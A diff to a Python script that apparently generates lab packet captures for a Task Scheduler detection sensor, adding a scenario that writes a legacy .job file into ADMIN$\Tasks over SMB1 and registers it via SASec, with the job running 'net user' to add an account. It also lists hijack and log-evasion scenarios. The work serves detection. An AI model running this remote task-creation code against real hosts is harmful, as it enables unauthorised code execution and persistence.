@@ -9,6 +9,7 @@ Only the lab address given on the command line is ever contacted.
 import argparse
 import base64
 import hashlib
+import io
 import json
 import struct
 import sys
@@ -513,6 +514,53 @@ def scen_sasec(a):
                 job_flags=sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON, op_sequence=["SASetAccountInformation"])
 
 
+def job_file(app, params, workdir, author, comment):
+    """A Task Scheduler 1.0 .job file (MS-TSCH 2.4): the 68-byte fixed-length
+    section, the running instance count, the counted UTF-16 strings, empty
+    user data, 8 bytes of reserved data and no trigger."""
+    # version, file version, UUID, app name length offset, trigger offset
+    # (set below), error retry count and interval, idle deadline and wait
+    # (minutes), NORMAL_PRIORITY_CLASS, 72 h maximum run time, exit code,
+    # SCHED_S_TASK_HAS_NOT_RUN, flags; the run date (SYSTEMTIME) stays zero.
+    fixed = struct.pack("<HH16sHHHHHHIIIII", 0x0501, 1, b"tschsensor-smb1j", 70, 0, 0, 0, 600, 10, 0x20, 259200000,
+                        0, 0x00041303, 0)
+    b = bytearray(fixed + b"\x00" * (68 - len(fixed)))
+    b += struct.pack("<H", 0)  # running instance count
+    for text in (app, params, workdir, author, comment):
+        u = (text + "\x00").encode("utf-16le")
+        b += struct.pack("<H", len(u) // 2) + u
+    b += struct.pack("<H", 0)  # user data
+    b += struct.pack("<H", 8) + b"\x00" * 8  # reserved data
+    struct.pack_into("<H", b, 22, len(b))
+    b += struct.pack("<H", 0)  # trigger count
+    return bytes(b)
+
+
+def scen_legacy_job_smb1(a):
+    """Task Scheduler 1.0 task created the SASec way over SMB1 (NT LM 0.12):
+    the .job file written into ADMIN$\\Tasks with WRITE_ANDX, then
+    SASetAccountInformation on that job name over \\pipe\\atsvc of the same
+    session, auth level CONNECT."""
+    conn, dce = smb_dce(a, smb.SMB_DIALECT, 445)
+    if conn.getDialect() != smb.SMB_DIALECT:
+        raise SystemExit("server did not speak SMB1")
+    job = "TschLabLegacy1.job"
+    app, params, workdir = "C:\\Windows\\System32\\cmd.exe", "/c net user labsvc1 Lab-Pass-1 /add", "C:\\Windows\\Temp"
+    data = job_file(app, params, workdir, "LAB\\alice", "lab legacy job over SMB1")
+    conn.putFile("ADMIN$", "Tasks\\" + job, io.BytesIO(data).read)
+    dce.bind(sasec.MSRPC_UUID_SASEC)
+    account = "LAB\\alice"
+    sasec.hSASetAccountInformation(dce, NULL, job, account, a.task_password, sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON)
+    dce.disconnect()
+    conn.logoff()
+    return dict(interface="SASec", auth_level=2, transport="ncacn_np:\\pipe\\atsvc", smb_dialect="NT LM 0.12",
+                smb_file_commands="NT_CREATE_ANDX, WRITE_ANDX, CLOSE", job_path="ADMIN$\\Tasks\\" + job,
+                job_bytes=len(data), job_sha256=hashlib.sha256(data).hexdigest(), command=app,
+                arguments=params, job_working_directory=workdir, job_name=job, run_as=account,
+                run_as_password=a.task_password, job_flags=sasec.TASK_FLAG_RUN_ONLY_IF_LOGGED_ON,
+                op_sequence=["SASetAccountInformation"])
+
+
 def scen_hijack(a):
     """Task hijack as the SolarWinds intruders did it: read an existing task
     back (SchRpcRetrieveTask), replace its definition (SchRpcRegisterTask with
@@ -570,7 +618,7 @@ def main():
     p.add_argument("scenario", choices=["atexec-clear", "tsch-smb2-clear", "tcp", "tcp-ndr64", "at-smb1", "sasec-smb2", "nbss139",
                                                "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb", "at-smb2",
                                                "tcp-interleaved", "tcp-integrity", "hijack", "log-evasion",
-                                               "tcp-fault", "tcp-krb-fault"])
+                                               "tcp-fault", "tcp-krb-fault", "legacy-job-smb1"])
     p.add_argument("--target", required=True)
     p.add_argument("--user", default="alice")
     p.add_argument("--domain", default="LAB")
@@ -614,6 +662,8 @@ def main():
         out = scen_hijack(a)
     elif a.scenario == "log-evasion":
         out = scen_log_evasion(a)
+    elif a.scenario == "legacy-job-smb1":
+        out = scen_legacy_job_smb1(a)
     else:
         out = scen_sasec(a)
     out.update(user=a.user, domain=a.domain, client="pcaps/gen/tsch_client.py " + a.scenario,
